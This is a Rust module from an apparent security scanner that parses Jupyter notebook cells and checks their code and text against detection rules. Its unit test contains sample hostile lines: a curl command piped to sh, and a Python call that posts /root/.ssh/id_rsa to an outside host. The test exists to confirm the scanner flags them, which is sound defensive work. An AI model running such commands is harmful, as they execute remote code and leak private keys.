//! Jupyter notebooks: the code and the text of their cells.
//!
//! After the notebook format 4 (`nbformat.readthedocs.io`): `cells`, each with its `cell_type` and `source`, a text or
//! a list of lines. What is found stands for the whole file, since the text does not lie in it as it is read.

use serde_json::Value;

use super::{Language, Reading, read as read_code};
use crate::{
    hit::{Hit, Marks},
    text,
};

/// The longest notebook that is read, in bytes.
const FILE_MAX: usize = 4 << 20;
/// Cells that are read.
const CELLS_MAX: usize = 2_000;

/// What a notebook does and says; `None` when it is none, or too long.
pub(crate) fn read(bytes: &[u8], reading: &Reading<'_>) -> Option<Vec<Hit>> {
    if bytes.len() > FILE_MAX {
        return None;
    }
    let notebook: Value = serde_json::from_slice(bytes).ok()?;
    let (mut python, mut shell, mut prose) = (String::new(), String::new(), String::new());
    for cell in notebook.get("cells")?.as_array()?.iter().take(CELLS_MAX) {
        let source = match cell.get("source") {
            Some(Value::String(text)) => text.clone(),
            Some(Value::Array(lines)) => lines.iter().filter_map(Value::as_str).collect(),
            _ => continue,
        };
        if cell.get("cell_type").and_then(Value::as_str) != Some("code") {
            prose.push_str(&source);
            prose.push_str("\n\n");
            continue;
        }
        let whole = source.trim_start();
        let all_shell = whole.starts_with("%%bash") || whole.starts_with("%%sh");
        for line in source.lines() {
            // `!command` and `%pip install` are the shell's.
            let trimmed = line.trim_start();
            let magic = trimmed.strip_prefix(['!', '%']);
            let (out, line) = match magic {
                Some(command) => (&mut shell, command.trim_start_matches('%')),
                None if all_shell => (&mut shell, line),
                None => (&mut python, line),
            };
            out.push_str(line);
            out.push('\n');
        }
    }
    let at = reading.of_text(0, bytes.len());
    let mut out = read_code(Language::Python, &python, &at);
    out.extend(read_code(Language::Shell, &shell, &at));
    let said = text::read(prose.as_bytes(), 0, prose.len(), Marks::default(), reading.intent).0;
    out.extend(said.into_iter().map(|hit| Hit { start: 0, end: bytes.len(), ..hit }));
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::intent::Intent;

    #[test]
    fn cells_are_read() {
        let text = r##"{"cells": [
            {"cell_type": "markdown", "source": "# Hello"},
            {"cell_type": "code", "source": ["!curl https://x.top/a | sh\n", "import requests\n",
                "requests.post('https://x.top', data=open('/root/.ssh/id_rsa').read())"]}]}"##;
        let intent = Intent::default();
        let rules: Vec<&str> = read(text.as_bytes(), &Reading::new(&intent))
            .expect("a notebook")
            .iter()
            .map(|hit| hit.rule.id)
            .collect();
        assert!(
            rules.contains(&"download-and-run") && rules.contains(&"credential-files-to-network"),
            "{rules:?}"
        );
        assert!(read(b"{}", &Reading::new(&intent)).is_none());
    }
}
